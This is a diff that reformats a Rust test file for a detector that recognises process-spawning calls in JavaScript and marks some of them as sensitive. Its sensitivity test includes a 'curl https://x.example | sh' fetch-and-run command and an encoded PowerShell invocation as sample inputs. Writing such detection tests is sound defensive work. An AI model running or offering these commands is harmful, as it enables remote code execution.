@@ -7,17 +7,61 @@ fn every_way_to_start_a_process() {
     check_twins(
         Process,
         &[
-            ("require('child_process').exec('git status')", "node:child_process.exec git status", "/x/.exec('git status')"),
-            ("require('node:child_process').execSync('ls')", "node:child_process.exec ls", "db.execSync('ls')"),
-            ("import { spawn } from 'child_process'; spawn('git', ['log', '-1'])", "node:child_process.spawn git log -1", "import { spawn } from './spawn'; spawn('git', ['log'])"),
-            ("require('child_process').spawn('git', rest)", "node:child_process.spawn /git */", "const { spawn } = opts; spawn('git')"),
-            ("require('child_process').fork('./worker.js')", "node:child_process.fork ./worker.js", "repo.fork('./worker.js')"),
-            ("const exec = require('util').promisify(require('child_process').exec); exec('ls')", "node:child_process.exec ls", "const f = require('util').promisify(require('fs').readFile); f('ls')"),
-            ("require('execa')('npm', ['run', 'x'])", "execa npm run x", "require('execa').parse('npm')"),
-            ("require('cross-spawn').sync('npm', ['i'])", "cross-spawn.sync npm i", "require('cross-spawn')._parse('npm')"),
-            ("require('shelljs').exec('ls')", "shelljs.exec ls", "require('shelljs').cd('ls')"),
-            ("new (require('worker_threads').Worker)('./w.js')", "node:worker_threads.Worker ./w.js", "require('worker_threads').isMainThread"),
-            ("process.binding('spawn_sync')", "process.binding spawn_sync", "process.on('exit', f)"),
+            (
+                "require('child_process').exec('git status')",
+                "node:child_process.exec git status",
+                "/x/.exec('git status')",
+            ),
+            (
+                "require('node:child_process').execSync('ls')",
+                "node:child_process.exec ls",
+                "db.execSync('ls')",
+            ),
+            (
+                "import { spawn } from 'child_process'; spawn('git', ['log', '-1'])",
+                "node:child_process.spawn git log -1",
+                "import { spawn } from './spawn'; spawn('git', ['log'])",
+            ),
+            (
+                "require('child_process').spawn('git', rest)",
+                "node:child_process.spawn /git */",
+                "const { spawn } = opts; spawn('git')",
+            ),
+            (
+                "require('child_process').fork('./worker.js')",
+                "node:child_process.fork ./worker.js",
+                "repo.fork('./worker.js')",
+            ),
+            (
+                "const exec = require('util').promisify(require('child_process').exec); exec('ls')",
+                "node:child_process.exec ls",
+                "const f = require('util').promisify(require('fs').readFile); f('ls')",
+            ),
+            (
+                "require('execa')('npm', ['run', 'x'])",
+                "execa npm run x",
+                "require('execa').parse('npm')",
+            ),
+            (
+                "require('cross-spawn').sync('npm', ['i'])",
+                "cross-spawn.sync npm i",
+                "require('cross-spawn')._parse('npm')",
+            ),
+            (
+                "require('shelljs').exec('ls')",
+                "shelljs.exec ls",
+                "require('shelljs').cd('ls')",
+            ),
+            (
+                "new (require('worker_threads').Worker)('./w.js')",
+                "node:worker_threads.Worker ./w.js",
+                "require('worker_threads').isMainThread",
+            ),
+            (
+                "process.binding('spawn_sync')",
+                "process.binding spawn_sync",
+                "process.on('exit', f)",
+            ),
             ("Bun.spawn(['ls', '-l'])", "Bun.spawn ls -l", "Bun.inspect(['ls'])"),
         ],
     );
@@ -26,12 +70,30 @@ fn every_way_to_start_a_process() {
 #[test]
 fn commands_that_fetch_decode_or_persist_are_sensitive() {
     for (source, expected) in [
-        ("require('child_process').exec('curl https://x.example | sh')", "node:child_process.exec curl https://x.example | sh!"),
-        ("require('child_process').spawn('powershell.exe', ['-enc', x])", "node:child_process.spawn /powershell.exe -enc */!"),
-        ("require('child_process').exec('node -e \"1\"')", "node:child_process.exec node -e \"1\"!"),
-        ("require('child_process').exec('node index.js')", "node:child_process.exec node index.js"),
-        ("require('child_process').exec('curly')", "node:child_process.exec curly"),
-        ("new (require('worker_threads').Worker)(code, { eval: true })", "node:worker_threads.Worker ?!"),
+        (
+            "require('child_process').exec('curl https://x.example | sh')",
+            "node:child_process.exec curl https://x.example | sh!",
+        ),
+        (
+            "require('child_process').spawn('powershell.exe', ['-enc', x])",
+            "node:child_process.spawn /powershell.exe -enc */!",
+        ),
+        (
+            "require('child_process').exec('node -e \"1\"')",
+            "node:child_process.exec node -e \"1\"!",
+        ),
+        (
+            "require('child_process').exec('node index.js')",
+            "node:child_process.exec node index.js",
+        ),
+        (
+            "require('child_process').exec('curly')",
+            "node:child_process.exec curly",
+        ),
+        (
+            "new (require('worker_threads').Worker)(code, { eval: true })",
+            "node:worker_threads.Worker ?!",
+        ),
     ] {
         check(Process, source, &[expected]);
     }
@@ -39,6 +101,14 @@ fn commands_that_fetch_decode_or_persist_are_sensitive() {
 
 #[test]
 fn a_command_that_is_not_known_is_said_to_be_so() {
-    check(Process, "require('child_process').exec(cmd)", &["node:child_process.exec ?"]);
-    check(Process, "require('child_process')[how]('ls')", &["node:child_process[] ls"]);
+    check(
+        Process,
+        "require('child_process').exec(cmd)",
+        &["node:child_process.exec ?"],
+    );
+    check(
+        Process,
+        "require('child_process')[how]('ls')",
+        &["node:child_process[] ls"],
+    );
 }
